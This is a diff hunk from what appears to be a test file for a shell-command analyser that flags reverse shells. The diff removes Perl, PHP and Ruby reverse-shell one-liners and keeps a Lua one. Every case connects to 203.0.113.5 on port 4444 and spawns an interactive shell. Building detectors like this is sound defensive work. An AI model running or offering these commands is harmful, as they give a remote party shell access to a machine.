@@ -141,30 +141,6 @@ test.each([
     ["1:1 connect ⟨203.0.113.5:4444⟩", "1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse"],
   ],
   [
-    "Perl",
-    'perl -e \'use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i");\'',
-    [
-      '1:1 evaluate perl ⟨use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i");⟩',
-      "1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse",
-    ],
-  ],
-  [
-    "PHP",
-    'php -r \'$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
-    [
-      '1:1 evaluate php ⟨$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");⟩',
-      "1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse",
-    ],
-  ],
-  [
-    "Ruby",
-    'ruby -rsocket -e\'f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
-    [
-      '1:1 evaluate ruby ⟨f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)⟩',
-      "1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse",
-    ],
-  ],
-  [
     "Lua",
     "lua -e \"require('socket');t=socket.tcp();t:connect('203.0.113.5','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
     [
